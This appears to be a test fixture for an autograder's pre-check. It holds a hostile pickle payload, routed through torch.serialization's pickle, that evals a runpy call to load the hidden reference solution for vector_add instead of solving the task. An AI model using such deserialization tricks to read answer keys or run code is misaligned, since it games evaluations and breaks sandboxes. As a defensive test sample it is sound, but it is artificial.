"""Hostile: the pickle module re-exported by torch.serialization runs a pickled call to runpy,
which loads the reference solution. Stopped by the pre-check (torch.serialization); past it, the
sandbox has no solutions/."""

import torch

PAYLOAD = (
    b"cbuiltins\neval\n(V__import__('runpy').run_path(__import__('os').path.join(__import__('os').path.dirname("
    b"__import__('os').path.dirname(__import__('course_lib').__file__)), 'solutions', 'vector_add.py'))\ntR."
)
vector_add = torch.serialization.pickle.loads(PAYLOAD)["vector_add"]
